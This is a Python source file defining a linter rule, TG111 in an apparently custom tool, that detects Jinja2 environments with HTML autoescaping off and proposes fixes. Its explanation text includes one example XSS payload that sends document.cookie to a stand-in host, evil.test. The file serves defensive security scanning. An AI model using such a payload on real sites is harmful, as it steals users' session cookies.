"""TG111: a Jinja2 environment that renders HTML without auto-escaping."""

from __future__ import annotations

import ast

from tabguard.engine.fixes import expression_fix, set_keyword, text_fix
from tabguard.engine.rule import Invalid, Rule

_ENVIRONMENTS = frozenset({"jinja2.Environment", "jinja2.environment.Environment", "jinja2.Template"})


def _escape_setting(ctx) -> str:
    """`select_autoescape()` spelled the way the module can reach it, else `True`."""
    for alias, target in ctx.module.imports.items():
        if target == "jinja2.select_autoescape":
            return f"{alias}()"
    for alias, target in ctx.module.imports.items():
        if target == "jinja2":
            return f"{alias}.select_autoescape()"
    return "True"


class Jinja2AutoescapeOff(Rule):
    id = "TG111"
    name = "jinja2-autoescape-off"
    severity = "medium"
    confidence = "medium"
    cwe = (79,)
    owasp = "A05:2025"
    message = "Jinja2 {what}: variables are inserted into HTML unescaped"
    placeholders = {"what": "environment without autoescape"}
    aliases = ("B701", "S701")
    what = "A Jinja2 {what}, so `{{{{ value }}}}` writes the value into the page as raw HTML."
    why = (
        "Jinja2's default is `autoescape=False` (Flask turns it on for its own environment only). A "
        "stored comment such as `<script>new Image().src='//evil.test?c='+document.cookie</script>` "
        "rendered through `Environment(loader=...)` runs in every reader's browser."
    )
    how = (
        "Create environments with `autoescape=select_autoescape()` (escaping for .html/.xml templates and "
        "strings) or `autoescape=True`; mark trusted snippets with `Markup` in code, not by switching "
        "escaping off."
    )
    example = 'env = Environment(loader=FileSystemLoader("templates"), autoescape=select_autoescape())'
    fix_safety = (
        "Unsafe: turning escaping on changes output that relied on raw HTML from variables (render it "
        "with `|safe` or `Markup` after review). Environments producing non-HTML text (YAML, SQL, emails) "
        "should say `autoescape=False` on purpose, with a suppression comment."
    )
    references = (
        "https://cwe.mitre.org/data/definitions/79.html",
        "https://jinja.palletsprojects.com/en/stable/api/#autoescaping",
    )
    VALID = (
        'from jinja2 import Environment, select_autoescape\nenv = Environment(autoescape=select_autoescape())\n',
        'import jinja2\nenv = jinja2.Environment(autoescape=True)\n',
        'import jinja2\nt = jinja2.Template("{{ x }}", autoescape=True)\n',
        'def f(app):\n    app.jinja_env.autoescape = True\n',
    )
    INVALID = (
        Invalid(
            'from jinja2 import Environment, FileSystemLoader\nenv = Environment(loader=FileSystemLoader("t"))\n',
            'from jinja2 import Environment, FileSystemLoader\nenv = Environment(loader=FileSystemLoader("t"), autoescape=True)\n',
        ),
        Invalid(
            'import jinja2\nenv = jinja2.Environment(autoescape=False)\n',
            'import jinja2\nenv = jinja2.Environment(autoescape=jinja2.select_autoescape())\n',
        ),
        Invalid(
            'from jinja2 import Environment, select_autoescape\nenv = Environment(autoescape=False)\n',
            'from jinja2 import Environment, select_autoescape\nenv = Environment(autoescape=select_autoescape())\n',
        ),
        Invalid('from flask import Flask\napp = Flask(__name__)\napp.jinja_env.autoescape = False\n',
                'from flask import Flask\napp = Flask(__name__)\napp.jinja_env.autoescape = True\n'),
    )

    def visit_Call(self, node: ast.Call, ctx) -> None:
        callee = ctx.call_name(node) or ""
        if callee not in _ENVIRONMENTS:
            return
        keyword = ctx.keyword(node, "autoescape")
        if keyword is None:
            if callee == "jinja2.Template" or any(k.arg is None for k in node.keywords):
                return  # Template() is TG108's concern; **options may set it
            what = "environment without `autoescape`"
        elif isinstance(keyword.value, ast.Constant) and keyword.value.value is False:
            what = "environment with `autoescape=False`" if callee != "jinja2.Template" else "template with `autoescape=False`"
        else:
            return
        value = _escape_setting(ctx)
        ctx.report(self, node, details={"what": what},
                   fix=expression_fix(ctx, node, set_keyword("autoescape", value), f"Fix: set autoescape={value}", safe=False))

    def visit_Assign(self, node: ast.Assign, ctx) -> None:
        value = node.value
        if not (isinstance(value, ast.Constant) and value.value is False):
            return
        for target in node.targets:
            if isinstance(target, ast.Attribute) and target.attr == "autoescape" and (
                isinstance(target.value, ast.Attribute) and target.value.attr == "jinja_env"
            ):
                ctx.report(self, node, details={"what": "environment with `autoescape` switched off"},
                           fix=text_fix(ctx.span(value), "True", "Fix: set autoescape=True", safe=False))
